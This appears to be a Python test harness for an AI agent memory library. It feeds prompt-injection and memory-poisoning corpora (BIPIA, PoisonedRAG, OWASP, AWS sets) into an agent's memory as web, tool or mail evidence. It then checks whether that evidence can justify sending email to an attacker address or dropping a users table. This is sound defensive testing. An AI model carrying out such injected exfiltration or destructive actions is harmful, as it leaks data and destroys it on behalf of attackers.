"""
The `poison/` sets as what tools and pages say: does any of it justify an action, and what of it is held for a secret?

Every text is remembered as external evidence and cited for an external and a destructive act. Where the set says what
should be found, secrets found and false alarms are counted; injections are not looked for: that is not what protects.
"""

from __future__ import annotations

import argparse
import json
import tempfile
from collections.abc import Iterator
from pathlib import Path
from typing import Final, cast

import muniment
from muniment import Action
from muniment.gate import StructuredScanner

from ._harness import need

_ACTS: Final = (Action("ext.email.send", {"to": "x@attacker.example"}), Action("rm.tables.drop", {"table": "users"}))
_POLICY: Final = '[actions]\n"ext.*" = "external_action"\n"say.*" = "answer"\n'


def poison(args: argparse.Namespace) -> dict[str, object]:
    """Write every text through external origins, cite it, and return what came of it."""
    counts: dict[str, dict[str, int]] = {}
    secrets = {"secrets in the sets": 0, "found": 0, "other texts": 0, "false alarms": 0}
    missed: list[str] = []
    scanner = StructuredScanner()
    justified = 0
    with tempfile.TemporaryDirectory(prefix="muniment-poison-") as name:
        policy = muniment.Policy.from_toml(_POLICY)
        with muniment.open(Path(name) / "store", create=True, model="none", policy=policy, secrets="mask") as store:
            agent = store.session(scope="acme", actor="agent:planner")
            for source, text, is_secret in _texts(args):
                row = counts.setdefault(source, {"texts": 0, "justified an action": 0, "informed an answer": 0})
                hit = bool(scanner.find(text))
                secrets["secrets in the sets" if is_secret else "other texts"] += 1
                secrets["found" if is_secret else "false alarms"] += hit
                if is_secret != hit:
                    missed.append(f"{source}: {text[:60]}")
                origin = ("web:https://x.example", "tool:fetch", "document:mail")[row["texts"] % 3]
                seen = agent.via(origin).remember(text, source=f"{source}/{row['texts']}").id
                row["texts"] += 1
                acted = sum(agent.decide(act, evidence=[seen], dry_run=True).allowed for act in _ACTS)
                row["justified an action"] += acted
                row["informed an answer"] += agent.decide(Action("say.it"), evidence=[seen], dry_run=True).allowed
                justified += acted
    rows = [{"set": source, **row} for source, row in counts.items()]
    return {"justified an action": justified, "rows": rows, **secrets, "missed and false alarms": missed[:40]}


def _texts(args: argparse.Namespace) -> Iterator[tuple[str, str, bool]]:
    folder = need(args, "poison/owasp_memory_guard_corpus.jsonl").parent
    for row in _lines(folder / "owasp_memory_guard_corpus.jsonl"):
        # Of the personal data, cards and social security numbers are no credentials; one text holds a token as well.
        value = str(row["value"])
        yield "owasp", value, row["category"] == "sensitive_data" and (row["subcategory"] != "pii" or "Token" in value)
    for row in cast(
        "list[dict[str, object]]", json.loads((folder / "aws_memory_poisoning_test_cases.json").read_text())
    ):
        yield "aws", str(row["writeContent"]), False
    for name in ("text", "code"):
        for part in ("test", "train"):
            found = cast("dict[str, list[str]]", json.loads((folder / f"bipia_{name}_attack_{part}.json").read_text()))
            for texts in found.values():
                yield from ((f"bipia {name}", text, False) for text in texts)
    for name in ("email_test", "email_train", "table_test", "code_test"):
        for row in _lines(folder / f"bipia_{name}.jsonl"):
            context = row["context"]
            text = "\n".join(cast("list[str]", context)) if isinstance(context, list) else str(context)
            yield "bipia contexts", text, False
    for name in ("nq", "hotpotqa", "msmarco"):
        rows = cast("dict[str, dict[str, object]]", json.loads((folder / f"poisonedrag_{name}.json").read_text()))
        for row in rows.values():
            yield from (("poisonedrag", text, False) for text in cast("list[str]", row["adv_texts"]))


def _lines(path: Path) -> Iterator[dict[str, object]]:
    with path.open(encoding="utf-8") as file:
        for line in file:
            yield cast("dict[str, object]", json.loads(line))
